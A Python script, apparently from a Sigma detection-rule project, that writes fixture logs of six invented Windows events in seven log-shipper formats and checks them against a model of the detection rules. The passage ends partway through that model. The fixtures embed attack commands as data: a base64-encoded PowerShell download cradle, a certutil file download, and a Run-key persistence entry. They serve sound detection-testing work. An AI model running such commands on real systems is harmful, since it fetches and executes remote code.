#!/usr/bin/env python3
"""Write examples/events/shapes/: the same six Windows events as seven log shippers emit them.

One description of six invented events (below, EVENTS) is rendered as:

    evtx_dump.ndjson          evtx_dump -o jsonl (the Rust `evtx` crate)
    winlogbeat.ndjson         Winlogbeat 8 / Elastic Agent, no ingest pipeline
    nxlog.ndjson              NXLog im_msvistalog with to_json()
    vector.ndjson             Vector `windows_event_log` source, legacy log namespace
    fluentbit_map.ndjson      Fluent Bit winevtlog with event_data_as_map
    fluentbit_inserts.ndjson  Fluent Bit winevtlog without it (positional StringInserts)
    flat.ndjson               Sigma field names at the top level

Line N of every file is the same event. EXPECTED.md lists, per line, the ids of the bundled
rules in rules/windows that must match (the same for every shape). docs/shapes.md explains
the shapes. All host names, users, SIDs, GUIDs, hashes and record numbers are invented; IP
addresses come from the documentation ranges.

Before writing, the script checks its own output: each shape is read back into Sigma
fields the way docs/shapes.md describes (StringInserts through rules/winevt/string_inserts.tsv),
every shape must give the same fields, and a small Python model of the bundled rules must
give the ids in EXPECTED.md. Standard library only.

    python3 tools/gen_shape_fixtures.py           # write the files
    python3 tools/gen_shape_fixtures.py --check   # exit 1 if a file is not up to date
"""

import argparse
import base64
import datetime as dt
import hashlib
import json
import os
import re
import sys

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT_DIR = os.path.join(ROOT, "examples", "events", "shapes")
TABLE = os.path.join(ROOT, "rules", "winevt", "string_inserts.tsv")
SHAPES = ["evtx_dump", "winlogbeat", "nxlog", "vector", "fluentbit_map", "fluentbit_inserts", "flat"]

# The hosts' local time zone (NXLog EventTime and Fluent Bit TimeCreated are local time).
LOCAL = dt.timezone(dt.timedelta(hours=1))

RULES = {
    "05dbc954-2e98-4623-a653-c3fbd62f2867": ("rules/windows/service/psexec_service_installation.yml",
                                             "PsExec Service Installed"),
    "0f7a004c-f48e-46b1-a650-1107d8f2cabb": ("rules/windows/process_creation/proc_creation_win_services_child_unusual_location.yml",
                                             "Service Process Started From Outside System Folders"),
    "f8f54667-7040-41a3-b007-4ec60fa6606c": ("rules/windows/process_creation/proc_creation_win_certutil_url_download.yml",
                                             "Certutil Fetching a File From a URL"),
    "e2a8cafd-5747-4552-9dfe-d27c3b12f0e1": ("rules/windows/powershell/posh_ps_base64_encoded_download_cradle.yml",
                                             "PowerShell Script Block Decoding a Base64 Download Cradle"),
    "ffd4c7a1-4f49-482a-aa2c-7eddf846c452": ("rules/windows/process_creation/proc_creation_win_vssadmin_delete_shadows.yml",
                                             "Shadow Copies Deleted With Vssadmin"),
    "a58a8721-3aa7-4d79-b0e4-d77d61280f61": ("rules/windows/generic/win_credential_tool_command_keywords.yml",
                                             "Credential Theft Tool Module Commands in Windows Events"),
    "d7d14772-a9fb-422f-a82a-e6f9766d30d1": ("rules/windows/network_connection/net_connection_win_script_host_public_ip.yml",
                                             "Windows Script Host or Mshta Connecting to a Public Address"),
}


def fake_hex(seed, length):
    """Deterministic invented hex digits (not the hash of any real file)."""
    out = ""
    counter = 0
    while len(out) < length:
        out += hashlib.sha256(f"{seed}/{counter}".encode()).hexdigest()
        counter += 1
    return out[:length].upper()


def ts(text):
    """'2026-11-20T09:14:07.4812345' (UTC) -> (datetime, 7-digit fraction string)."""
    base, frac = text.split(".")
    when = dt.datetime.strptime(base, "%Y-%m-%dT%H:%M:%S").replace(
        tzinfo=dt.timezone.utc, microsecond=int(frac[:6]))
    return when, frac


# ---------------------------------------------------------------------------------------
# The six events. EventData values carry their template type, because the shippers render
# types differently:
#   str    text everywhere
#   int    JSON number in evtx_dump and Fluent Bit, decimal text in XML-based shippers
#   guid   '{lower}' in evtx_dump, '{UPPER}' from Windows' XML rendering and Fluent Bit
#   hex    win:HexInt32/HexInt64: '0x..' text everywhere
#   ptr    win:Pointer: '0x..' text in evtx_dump and XML, an integer in Fluent Bit
#   sid    win:SID: 'S-1-..' text everywhere
# ---------------------------------------------------------------------------------------

HOST = "WS-FIN-07.corp.example"
AGENT_HOST = "ws-fin-07"
DEPLOY_SID = "S-1-5-21-3623811015-3361044348-30300820-1104"
SYSMON = ("Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
SECURITY = ("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}")
SCM = ("Service Control Manager", "{555908d1-a6d7-4695-8e1e-26931d2012f4}")
POWERSHELL = ("Microsoft-Windows-PowerShell", "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}")

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.41/stage2.ps1')"
CRADLE_B64 = base64.b64encode(CRADLE.encode("utf-8")).decode("ascii")
SCRIPT = ("$d = [System.Convert]::FromBase64String('" + CRADLE_B64 + "')\r\n"
          "$s = [System.Text.Encoding]::UTF8.GetString($d)\r\n"
          "Invoke-Expression $s")
CERTUTIL_CMD = ("certutil.exe  -urlcache -split -f http://198.51.100.77/pkg/update.bin "
                "C:\\Users\\Public\\update.exe")

EVENTS = [
    {
        "title": "Sysmon 1 certutil -urlcache download",
        "exercises": "Sysmon 1 v5 (23 fields, ParentUser); certutil rule through Image/CommandLine/ParentImage",
        "expected": ["f8f54667-7040-41a3-b007-4ec60fa6606c"],
        "provider": SYSMON, "event_id": 1, "qualifiers": None, "version": 5, "level": 4,
        "task": 1, "task_name": "Process Create (rule: ProcessCreate)", "opcode": 0, "opcode_name": "Info",
        "keywords": 0x8000000000000000, "time": "2026-11-20T09:14:07.4829213",
        "record_id": 48213, "activity_id": None, "pid": 2480, "tid": 3316,
        "channel": "Microsoft-Windows-Sysmon/Operational", "user": ("S-1-5-18", "NT AUTHORITY", "SYSTEM", "Well Known Group"),
        "message_title": "Process Create:",
        "data": [
            ("RuleName", "-", "str"),
            ("UtcTime", "2026-11-20 09:14:07.481", "str"),
            ("ProcessGuid", "{8f3c2a71-3b5e-674d-4c02-000000001e00}", "guid"),
            ("ProcessId", 6412, "int"),
            ("Image", "C:\\Windows\\System32\\certutil.exe", "str"),
            ("FileVersion", "10.0.19041.3636 (WinBuild.160101.0800)", "str"),
            ("Description", "CertUtil.exe", "str"),
            ("Product", "Microsoft\u00ae Windows\u00ae Operating System", "str"),
            ("Company", "Microsoft Corporation", "str"),
            ("OriginalFileName", "CertUtil.exe", "str"),
            ("CommandLine", CERTUTIL_CMD, "str"),
            ("CurrentDirectory", "C:\\Windows\\system32\\", "str"),
            ("User", "CORP\\svc-deploy", "str"),
            ("LogonGuid", "{8f3c2a71-3a90-674d-2f1b-0b0000000000}", "guid"),
            ("LogonId", "0xb1b2f", "hex"),
            ("TerminalSessionId", 0, "int"),
            ("IntegrityLevel", "High", "str"),
            ("Hashes", "SHA256=" + fake_hex("certutil", 64) + ",IMPHASH=" + fake_hex("certutil-imp", 32), "str"),
            ("ParentProcessGuid", "{8f3c2a71-3b5d-674d-4b02-000000001e00}", "guid"),
            ("ParentProcessId", 5120, "int"),
            ("ParentImage", "C:\\Windows\\System32\\cmd.exe", "str"),
            ("ParentCommandLine", "C:\\Windows\\system32\\cmd.exe /c " + CERTUTIL_CMD, "str"),
            ("ParentUser", "CORP\\svc-deploy", "str"),
        ],
    },
    {
        "title": "Security 4688 v2: services.exe starts C:\\Windows\\PSEXESVC.exe",
        "exercises": "Security 4688 v2; Image <- NewProcessName and ParentImage <- ParentProcessName renames; re/i filter",
        "expected": ["0f7a004c-f48e-46b1-a650-1107d8f2cabb"],
        "provider": SECURITY, "event_id": 4688, "qualifiers": None, "version": 2, "level": 0,
        "task": 13312, "task_name": "Process Creation", "opcode": 0, "opcode_name": "Info",
        "keywords": 0x8020000000000000, "time": "2026-11-20T09:14:09.1126734",
        "record_id": 1183377, "activity_id": None, "pid": 4, "tid": 7788,
        "channel": "Security", "user": None,
        "message_title": "A new process has been created.",
        "data": [
            ("SubjectUserSid", "S-1-5-18", "sid"),
            ("SubjectUserName", "WS-FIN-07$", "str"),
            ("SubjectDomainName", "CORP", "str"),
            ("SubjectLogonId", "0x3e7", "hex"),
            ("NewProcessId", 0x1a2c, "ptr"),
            ("NewProcessName", "C:\\Windows\\PSEXESVC.exe", "str"),
            ("TokenElevationType", "%%1936", "str"),
            ("ProcessId", 0x2d4, "ptr"),
            ("CommandLine", "C:\\Windows\\PSEXESVC.exe", "str"),
            ("TargetUserSid", "S-1-0-0", "sid"),
            ("TargetUserName", "-", "str"),
            ("TargetDomainName", "-", "str"),
            ("TargetLogonId", "0x0", "hex"),
            ("ParentProcessName", "C:\\Windows\\System32\\services.exe", "str"),
            ("MandatoryLabel", "S-1-16-16384", "sid"),
        ],
    },
    {
        "title": "System 7045 PSEXESVC installed (EventID with Qualifiers)",
        "exercises": "Provider_Name 'Service Control Manager'; EventID with Qualifiers 16384; NXLog AccountName collision",
        "expected": ["05dbc954-2e98-4623-a653-c3fbd62f2867"],
        "provider": SCM, "event_source_name": "Service Control Manager", "event_id": 7045, "qualifiers": 16384,
        "version": 0, "level": 4, "task": 0, "task_name": None, "opcode": 0, "opcode_name": "Info",
        "keywords": 0x8080000000000000, "time": "2026-11-20T09:14:08.7734410",
        "record_id": 22981, "activity_id": None, "pid": 708, "tid": 6120,
        "channel": "System", "user": (DEPLOY_SID, "CORP", "svc-deploy", "User"),
        "message_title": "A service was installed in the system.",
        "data": [
            ("ServiceName", "PSEXESVC", "str"),
            ("ImagePath", "%SystemRoot%\\PSEXESVC.exe", "str"),
            ("ServiceType", "user mode service", "str"),
            ("StartType", "demand start", "str"),
            ("AccountName", "LocalSystem", "str"),
        ],
    },
    {
        "title": "Sysmon 13 Run key value set (EventType SetValue)",
        "exercises": "Sysmon 13 v2 (9 fields, User); NXLog EventType collision (EventData 'SetValue' wins over 'INFO')",
        "expected": [],
        "provider": SYSMON, "event_id": 13, "qualifiers": None, "version": 2, "level": 4,
        "task": 13, "task_name": "Registry value set (rule: RegistryEvent)", "opcode": 0, "opcode_name": "Info",
        "keywords": 0x8000000000000000, "time": "2026-11-20T09:14:12.0451877",
        "record_id": 48230, "activity_id": None, "pid": 2480, "tid": 3316,
        "channel": "Microsoft-Windows-Sysmon/Operational", "user": ("S-1-5-18", "NT AUTHORITY", "SYSTEM", "Well Known Group"),
        "message_title": "Registry value set:",
        "data": [
            ("RuleName", "-", "str"),
            ("EventType", "SetValue", "str"),
            ("UtcTime", "2026-11-20 09:14:12.043", "str"),
            ("ProcessGuid", "{8f3c2a71-3b64-674d-5102-000000001e00}", "guid"),
            ("ProcessId", 7032, "int"),
            ("Image", "C:\\Users\\Public\\update.exe", "str"),
            ("TargetObject", "HKU\\" + DEPLOY_SID + "\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\UpdateHelper", "str"),
            ("Details", "C:\\Users\\Public\\update.exe /background", "str"),
            ("User", "CORP\\svc-deploy", "str"),
        ],
    },
    {
        "title": "PowerShell 4104 script block decoding a base64 download cradle",
        "exercises": "PowerShell 4104 v1; ScriptBlockText contains + base64offset/contains",
        "expected": ["e2a8cafd-5747-4552-9dfe-d27c3b12f0e1"],
        "provider": POWERSHELL, "event_id": 4104, "qualifiers": None, "version": 1, "level": 3,
        "task": 2, "task_name": "Execute a Remote Command", "opcode": 15, "opcode_name": "On create calls",
        "keywords": 0x0, "time": "2026-11-20T09:14:15.9318802",
        "record_id": 8812, "activity_id": "{6c1d2e93-5a0b-0004-47be-1e6c0b5adb01}", "pid": 7420, "tid": 5528,
        "channel": "Microsoft-Windows-PowerShell/Operational", "user": (DEPLOY_SID, "CORP", "svc-deploy", "User"),
        "message_title": None,
        "data": [
            ("MessageNumber", 1, "int"),
            ("MessageTotal", 1, "int"),
            ("ScriptBlockText", SCRIPT, "str"),
            ("ScriptBlockId", "3f9c1e52-7d4a-4b8e-9c21-5e6f0a7b8d93", "str"),
            ("Path", "", "str"),
        ],
    },
    {
        "title": "Security 4624 v2 network logon (type 3) from 192.0.2.15",
        "exercises": "Security 4624 v2 (27 fields); LogonType number; no bundled rule",
        "expected": [],
        "provider": SECURITY, "event_id": 4624, "qualifiers": None, "version": 2, "level": 0,
        "task": 12544, "task_name": "Logon", "opcode": 0, "opcode_name": "Info",
        "keywords": 0x8020000000000000, "time": "2026-11-20T09:14:18.2240151",
        "record_id": 1183402, "activity_id": "{b7e1c0d4-2f3a-0001-93a5-e1b7d42fdb01}", "pid": 724, "tid": 1456,
        "channel": "Security", "user": None,
        "message_title": "An account was successfully logged on.",
        "data": [
            ("SubjectUserSid", "S-1-0-0", "sid"),
            ("SubjectUserName", "-", "str"),
            ("SubjectDomainName", "-", "str"),
            ("SubjectLogonId", "0x0", "hex"),
            ("TargetUserSid", DEPLOY_SID, "sid"),
            ("TargetUserName", "svc-deploy", "str"),
            ("TargetDomainName", "CORP", "str"),
            ("TargetLogonId", "0xb1a84", "hex"),
            ("LogonType", 3, "int"),
            ("LogonProcessName", "NtLmSsp ", "str"),
            ("AuthenticationPackageName", "NTLM", "str"),
            ("WorkstationName", "WS-IT-02", "str"),
            ("LogonGuid", "{00000000-0000-0000-0000-000000000000}", "guid"),
            ("TransmittedServices", "-", "str"),
            ("LmPackageName", "NTLM V2", "str"),
            ("KeyLength", 128, "int"),
            ("ProcessId", 0x0, "ptr"),
            ("ProcessName", "-", "str"),
            ("IpAddress", "192.0.2.15", "str"),
            ("IpPort", "51544", "str"),
            ("ImpersonationLevel", "%%1833", "str"),
            ("RestrictedAdminMode", "-", "str"),
            ("TargetOutboundUserName", "-", "str"),
            ("TargetOutboundDomainName", "-", "str"),
            ("VirtualAccount", "%%1843", "str"),
            ("TargetLinkedLogonId", "0x0", "hex"),
            ("ElevatedToken", "%%1842", "str"),
        ],
    },
]


# ---------------------------------------------------------------------------------------
# Value rendering
# ---------------------------------------------------------------------------------------

def value_evtx(v, t):
    if t == "ptr":
        return "0x%x" % v
    return v  # int stays a number, everything else is text; GUIDs are stored lower-case


def value_xml(v, t):
    """Text as Windows renders it into event XML (Winlogbeat, NXLog, Vector read that)."""
    if t == "ptr":
        return "0x%x" % v
    if t == "guid":
        return v.upper()
    if t == "int":
        return str(v)
    return v


def value_fluentbit(v, t):
    """EVT_VARIANT as Fluent Bit's pack.c packs it."""
    if t == "guid":
        return v.upper()  # StringFromCLSID
    return v  # int and ptr (EvtVarTypeSizeT) are numbers; hex, sid, str are text


def message(ev):
    """A rendered message in the style of the provider's message template (abbreviated)."""
    d = {name: value_xml(v, t) for name, v, t in ev["data"]}
    if ev["provider"] is SYSMON:
        lines = [ev["message_title"]] + [f"{name}: {d[name]}" for name, _, _ in ev["data"]]
        return "\r\n".join(lines)
    if ev["event_id"] == 4688:
        return ("A new process has been created.\r\n\r\nCreator Subject:\r\n"
                f"\tSecurity ID:\t\t{d['SubjectUserSid']}\r\n\tAccount Name:\t\t{d['SubjectUserName']}\r\n"
                f"\tAccount Domain:\t\t{d['SubjectDomainName']}\r\n\tLogon ID:\t\t{d['SubjectLogonId']}\r\n\r\n"
                "Process Information:\r\n"
                f"\tNew Process ID:\t\t{d['NewProcessId']}\r\n\tNew Process Name:\t{d['NewProcessName']}\r\n"
                f"\tCreator Process ID:\t{d['ProcessId']}\r\n\tCreator Process Name:\t{d['ParentProcessName']}\r\n"
                f"\tProcess Command Line:\t{d['CommandLine']}")
    if ev["event_id"] == 7045:
        return ("A service was installed in the system.\r\n\r\n"
                f"Service Name:  {d['ServiceName']}\r\nService File Name:  {d['ImagePath']}\r\n"
                f"Service Type:  {d['ServiceType']}\r\nService Start Type:  {d['StartType']}\r\n"
                f"Service Account:  {d['AccountName']}")
    if ev["event_id"] == 4104:
        return (f"Creating Scriptblock text ({d['MessageNumber']} of {d['MessageTotal']}):\r\n"
                f"{d['ScriptBlockText']}\r\n\r\nScriptBlock ID: {d['ScriptBlockId']}\r\nPath: {d['Path']}")
    if ev["event_id"] == 4624:
        return ("An account was successfully logged on.\r\n\r\nSubject:\r\n"
                f"\tSecurity ID:\t\t{d['SubjectUserSid']}\r\n\tAccount Name:\t\t{d['SubjectUserName']}\r\n\r\n"
                f"Logon Information:\r\n\tLogon Type:\t\t{d['LogonType']}\r\n\r\nNew Logon:\r\n"
                f"\tSecurity ID:\t\t{d['TargetUserSid']}\r\n\tAccount Name:\t\t{d['TargetUserName']}\r\n"
                f"\tAccount Domain:\t\t{d['TargetDomainName']}\r\n\tLogon ID:\t\t{d['TargetLogonId']}\r\n\r\n"
                f"Network Information:\r\n\tWorkstation Name:\t{d['WorkstationName']}\r\n"
                f"\tSource Network Address:\t{d['IpAddress']}\r\n\tSource Port:\t\t{d['IpPort']}\r\n\r\n"
                f"Detailed Authentication Information:\r\n\tLogon Process:\t\t{d['LogonProcessName']}\r\n"
                f"\tAuthentication Package:\t{d['AuthenticationPackageName']}")
    raise ValueError(ev["title"])


def keyword_names(k):
    names = []
    if k & 0x0020000000000000:
        names.append("Audit Success")
    if k & 0x0010000000000000:
        names.append("Audit Failure")
    if k & 0x0080000000000000:
        names.append("Classic")
    return names


def signed64(k):
    return k - (1 << 64) if k & (1 << 63) else k


def iso_ms(when):
    return when.strftime("%Y-%m-%dT%H:%M:%S.") + "%03dZ" % (when.microsecond // 1000)


# ---------------------------------------------------------------------------------------
# Shapes
# ---------------------------------------------------------------------------------------

def shape_evtx_dump(ev):
    when, frac = ts(ev["time"])
    name, guid = ev["provider"]
    prov = {"Name": name, "Guid": guid}
    if ev.get("event_source_name"):
        prov["EventSourceName"] = ev["event_source_name"]
    eid = ev["event_id"] if ev["qualifiers"] is None else {
        "#attributes": {"Qualifiers": ev["qualifiers"]}, "#text": ev["event_id"]}
    system = {
        "Provider": {"#attributes": prov},
        "EventID": eid,
        "Version": ev["version"],
        "Level": ev["level"],
        "Task": ev["task"],
        "Opcode": ev["opcode"],
        "Keywords": "0x%x" % ev["keywords"],
        "TimeCreated": {"#attributes": {"SystemTime": when.strftime("%Y-%m-%dT%H:%M:%S.") + frac + "Z"}},
        "EventRecordID": ev["record_id"],
        "Correlation": None if ev["activity_id"] is None else {"#attributes": {"ActivityID": ev["activity_id"]}},
        "Execution": {"#attributes": {"ProcessID": ev["pid"], "ThreadID": ev["tid"]}},
        "Channel": ev["channel"],
        "Computer": HOST,
        "Security": None if ev["user"] is None else {"#attributes": {"UserID": ev["user"][0]}},
    }
    data = {name: value_evtx(v, t) for name, v, t in ev["data"]}
    return {"Event": {"#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
                      "System": system, "EventData": data}}


def shape_winlogbeat(ev):
    when, _ = ts(ev["time"])
    created = when + dt.timedelta(seconds=2, microseconds=137000)
    name, guid = ev["provider"]
    event = {"code": str(ev["event_id"]), "provider": name, "kind": "event", "created": iso_ms(created)}
    if ev["task_name"]:
        event["action"] = ev["task_name"]
    if ev["keywords"] & 0x0020000000000000:
        event["outcome"] = "success"
    winlog = {
        "channel": ev["channel"],
        "event_id": str(ev["event_id"]),
        "provider_name": name,
        "provider_guid": guid.upper(),
        "computer_name": HOST,
        "record_id": ev["record_id"],
        "version": ev["version"],
        "process": {"pid": ev["pid"], "thread": {"id": ev["tid"]}},
        "api": "wineventlog",
        "opcode": ev["opcode_name"],
    }
    if ev["task_name"]:
        winlog["task"] = ev["task_name"]
    kw = keyword_names(ev["keywords"])
    if kw:
        winlog["keywords"] = kw
    if ev["activity_id"]:
        winlog["activity_id"] = ev["activity_id"].upper()
    winlog["event_data"] = {name: str(value_xml(v, t)) for name, v, t in ev["data"]}
    if ev["user"]:
        sid, domain, account, kind = ev["user"]
        winlog["user"] = {"identifier": sid, "domain": domain, "name": account, "type": kind}
    level = {0: "information", 3: "warning", 4: "information"}[ev["level"]]
    return {
        "@timestamp": iso_ms(when),
        "agent": {"type": "winlogbeat", "version": "8.15.3", "name": AGENT_HOST},
        "ecs": {"version": "8.0.0"},
        "event": event,
        "host": {"name": AGENT_HOST},
        "log": {"level": level},
        "message": message(ev).replace("\r\n", "\n"),
        "winlog": winlog,
    }


def shape_nxlog(ev):
    when, _ = ts(ev["time"])
    local = when.astimezone(LOCAL)
    received = local + dt.timedelta(seconds=2)
    name, guid = ev["provider"]
    if ev["level"] == 3:
        event_type, sev_value, severity = "WARNING", 3, "WARNING"
    elif ev["keywords"] & 0x0020000000000000:
        event_type, sev_value, severity = "AUDIT_SUCCESS", 2, "INFO"
    else:
        event_type, sev_value, severity = "INFO", 2, "INFO"
    rec = {
        "EventTime": local.strftime("%Y-%m-%d %H:%M:%S"),
        "Hostname": HOST,
        "Keywords": signed64(ev["keywords"]),
        "EventType": event_type,
        "SeverityValue": sev_value,
        "Severity": severity,
        "EventID": ev["event_id"],
        "SourceName": name,
        "ProviderGuid": guid.upper(),
        "Version": ev["version"],
        "Task": ev["task"],
        "OpcodeValue": ev["opcode"],
        "RecordNumber": ev["record_id"],
    }
    if ev["activity_id"]:
        rec["ActivityID"] = ev["activity_id"].upper()
    rec.update({"ProcessID": ev["pid"], "ThreadID": ev["tid"], "Channel": ev["channel"]})
    if ev["user"]:
        sid, domain, account, kind = ev["user"]
        rec.update({"Domain": domain, "AccountName": account, "UserID": sid, "AccountType": kind})
    rec.update({"Category": ev["task_name"] or "None", "Opcode": ev["opcode_name"], "Message": message(ev)})
    # EventData fields go to the top level; a field named like an NXLog field replaces it.
    for dname, v, t in ev["data"]:
        rec[dname] = str(value_xml(v, t))
    rec.update({"EventReceivedTime": received.strftime("%Y-%m-%d %H:%M:%S"),
                "SourceModuleName": "in_windows_events", "SourceModuleType": "im_msvistalog"})
    return rec


def shape_vector(ev):
    when, frac = ts(ev["time"])
    name, guid = ev["provider"]
    rec = {
        "timestamp": when.strftime("%Y-%m-%dT%H:%M:%S.") + frac + "00Z",
        "message": message(ev),
        "host": HOST,
        "source_type": "windows_event_log",
        "event_id": ev["event_id"],
        "record_id": ev["record_id"],
        "level": {0: "Information", 3: "Warning", 4: "Information"}[ev["level"]],
        "level_value": ev["level"],
        "channel": ev["channel"],
        "provider_name": name,
        "provider_guid": guid.upper(),
        "computer": HOST,
        "process_id": ev["pid"],
        "thread_id": ev["tid"],
        "version": ev["version"],
        "event_data": {dname: str(value_xml(v, t)) for dname, v, t in ev["data"]},
    }
    if ev["user"]:
        rec["user_id"] = ev["user"][0]
    if ev["task"]:
        rec["task"] = ev["task"]
    if ev["opcode"]:
        rec["opcode"] = ev["opcode"]
    if ev["keywords"]:
        rec["keywords"] = "0x%016X" % ev["keywords"]
    if ev["activity_id"]:
        rec["activity_id"] = ev["activity_id"].upper()
    if ev["qualifiers"] is not None:
        rec["qualifiers"] = ev["qualifiers"]
    return rec  # Vector's event maps are ordered by key; written with sort_keys


def fluentbit_common(ev):
    when, _ = ts(ev["time"])
    name, guid = ev["provider"]
    if ev["user"] is None:
        user = ""
    else:
        user = ev["user"][1] + "\\" + ev["user"][2]  # pack_sid resolves the account name
    return {
        "ProviderName": name,
        "ProviderGuid": guid.upper(),
        "Qualifiers": "" if ev["qualifiers"] is None else ev["qualifiers"],
        "EventID": ev["event_id"],
        "Version": ev["version"],
        "Level": ev["level"],
        "Task": ev["task"],
        "Opcode": ev["opcode"],
        "Keywords": "0x%x" % ev["keywords"],
        "TimeCreated": when.astimezone(LOCAL).strftime("%Y-%m-%d %H:%M:%S %z"),
        "EventRecordID": ev["record_id"],
        "ActivityID": "" if ev["activity_id"] is None else ev["activity_id"].upper(),
        "RelatedActivityID": "",
        "ProcessID": ev["pid"],
        "ThreadID": ev["tid"],
        "Channel": ev["channel"],
        "Computer": HOST,
        "UserID": user,
        "Message": message(ev),
    }


def shape_fluentbit_map(ev):
    rec = fluentbit_common(ev)
    rec["EventData"] = {dname: value_fluentbit(v, t) for dname, v, t in ev["data"]}
    return rec


def shape_fluentbit_inserts(ev):
    rec = fluentbit_common(ev)
    rec["StringInserts"] = [value_fluentbit(v, t) for _, v, t in ev["data"]]
    return rec


def shape_flat(ev):
    rec = {"EventID": ev["event_id"], "Channel": ev["channel"], "Provider_Name": ev["provider"][0],
           "Computer": HOST}
    for dname, v, t in ev["data"]:
        rec[dname] = value_evtx(v, t)
    return rec


RENDER = {
    "evtx_dump": shape_evtx_dump,
    "winlogbeat": shape_winlogbeat,
    "nxlog": shape_nxlog,
    "vector": shape_vector,
    "fluentbit_map": shape_fluentbit_map,
    "fluentbit_inserts": shape_fluentbit_inserts,
    "flat": shape_flat,
}


def dumps(shape, rec):
    return json.dumps(rec, ensure_ascii=False, separators=(",", ":"), sort_keys=(shape == "vector"))


# ---------------------------------------------------------------------------------------
# Self-check: read every shape back (as docs/shapes.md describes) and run a model of the
# bundled rules on it.
# ---------------------------------------------------------------------------------------

NXLOG_SYSTEM = {"EventTime", "Hostname", "Keywords", "EventType", "SeverityValue", "Severity", "EventID",
                "SourceName", "ProviderGuid", "Version", "Task", "OpcodeValue", "RecordNumber", "ActivityID",
                "RelatedActivityID", "ProcessID", "ThreadID", "Channel", "Domain", "AccountName", "UserID",
                "AccountType", "Category", "Opcode", "Message", "EventReceivedTime", "SourceModuleName",
                "SourceModuleType"}


def load_table():
    rows = {}
    with open(TABLE, encoding="utf-8") as f:
        next(f)
        for line in f:
            p, e, v, fields, _src = line.rstrip("\n").split("\t")
            rows.setdefault((p.lower(), int(e), int(v)), []).append(fields.split(","))
    return rows


def detect(rec):
    """The shape of a record, from its distinguishing keys (see docs/shapes.md)."""
    if isinstance(rec.get("Event"), dict) and "System" in rec["Event"]:
        return "evtx_dump"
    if isinstance(rec.get("winlog"), dict):
        return "winlogbeat"
    if "ProviderName" in rec and "EventID" in rec:
        return "fluentbit_map" if isinstance(rec.get("EventData"), dict) else "fluentbit_inserts"
    if "SourceName" in rec and "EventID" in rec and ("SourceModuleType" in rec or "EventTime" in rec):
        return "nxlog"
    if "provider_name" in rec and "event_id" in rec:
        return "vector"
    if "EventID" in rec:
        return "flat"
    return None


def canon(v):
    if isinstance(v, bool):
        return "true" if v else "false"
    if isinstance(v, int):
        return str(v)
    if isinstance(v, str) and re.fullmatch(r"0x[0-9a-fA-F]+", v):
        return str(int(v, 16))
    return str(v).lower() if isinstance(v, str) and re.fullmatch(r"\{[0-9a-fA-F-]{36}\}", v) else str(v)


def sigma_view(rec, table, names_hint):
    """(EventID, Channel, Provider_Name, Computer, {field: value}) of one record."""
    shape = detect(rec)
    if shape == "evtx_dump":
        s = rec["Event"]["System"]
        eid = s["EventID"]["#text"] if isinstance(s["EventID"], dict) else s["EventID"]
        sysv = (eid, s["Channel"], s["Provider"]["#attributes"]["Name"], s["Computer"])
        data = dict(rec["Event"]["EventData"])
    elif shape == "winlogbeat":
        w = rec["winlog"]
        sysv = (w["event_id"], w["channel"], w["provider_name"], w["computer_name"])
        data = dict(w["event_data"])
    elif shape == "nxlog":
        sysv = (rec["EventID"], rec["Channel"], rec["SourceName"], rec["Hostname"])
        # Which top-level keys are event data cannot be told from the record alone when a
        # name collides; the check takes the names the event is known to have.
        data = {k: rec[k] for k in names_hint}
        extra = set(rec) - NXLOG_SYSTEM - set(names_hint)
        assert not extra, extra
    elif shape == "vector":
        sysv = (rec["event_id"], rec["channel"], rec["provider_name"], rec["computer"])
        data = dict(rec["event_data"])
    elif shape == "fluentbit_map":
        sysv = (rec["EventID"], rec["Channel"], rec["ProviderName"], rec["Computer"])
        data = dict(rec["EventData"])
    elif shape == "fluentbit_inserts":
        sysv = (rec["EventID"], rec["Channel"], rec["ProviderName"], rec["Computer"])
        inserts = rec["StringInserts"]
        rows = table.get((rec["ProviderName"].lower(), rec["EventID"], rec["Version"]), [])
        names = [r for r in rows if len(r) == len(inserts)]
        assert len(names) == 1, (rec["ProviderName"], rec["EventID"], rec["Version"], len(inserts))
        data = dict(zip(names[0], inserts))
    elif shape == "flat":
        sysv = (rec["EventID"], rec["Channel"], rec["Provider_Name"], rec["Computer"])
        data = {k: v for k, v in rec.items() if k not in ("EventID", "Channel", "Provider_Name", "Computer")}
    else:
        raise AssertionError("shape not detected")
    return shape, (int(sysv[0]),) + tuple(sysv[1:]), data


def b64offset_variants(text):
    out = []
    raw = text.encode("utf-8")
    for i in range(3):
        enc = base64.b64encode(b" " * i + raw).decode("ascii")
        start = (0, 2, 3)[i]
        end = (None, -3, -2)[(len(raw) + i) % 3]
        out.append(enc[start:end])
    return out


DASHES = "-/\u2013\u2014\u2015"


def windash_contains(value, needle):
    pattern = "".join("[" + re.escape(DASHES) + "]" if c in DASHES else re.escape(c) for c in needle)
    return re.search(pattern, value, re.I) is not None


def rule_model(sysv, data):
    """The bundled rules, restated in Python for the six fixture events."""
    eid, channel, provider, _ = sysv
    s = {k: ("" if v is None else str(v)) for k, v in data.items()}
    low = {k: v.lower() for k, v in s.items()}
    hits = []
    # process_creation: Sysmon 1, or Security 4688 with Image/ParentImage renamed.
    proc = None
    if channel == "Microsoft-Windows-Sysmon/Operational" and eid == 1:
        proc = low
    elif channel == "Security" and eid == 4688:
        proc = dict(low)
        if "NewProcessName" in low:
            proc["Image"] = low["NewProcessName"]
        else:
            proc.pop("Image", None)
        if "ParentProcessName" in low:
            proc["ParentImage"] = low["ParentProcessName"]
        else:
            proc.pop("ParentImage", None)
    if proc is not None:
        image, parent, cmd = proc.get("Image"), proc.get("ParentImage", ""), proc.get("CommandLine", "")
        if (image or "").endswith("\\certutil.exe") or proc.get("OriginalFileName") == "certutil.exe":
            if (windash_contains(cmd, "-urlcache") or windash_contains(cmd, "-verifyctl")) and \
                    any(u in cmd for u in ("http://", "https://", "ftp://")) and \
                    not parent.startswith("c:\\windows\\ccm\\"):
                hits.append("f8f54667-7040-41a3-b007-4ec60fa6606c")
        if ((image or "").endswith("\\vssadmin.exe") or proc.get("OriginalFileName") == "vssadmin.exe") and \
                "delete" in cmd and "shadows" in cmd:
            hits.append("ffd4c7a1-4f49-482a-aa2c-7eddf846c452")
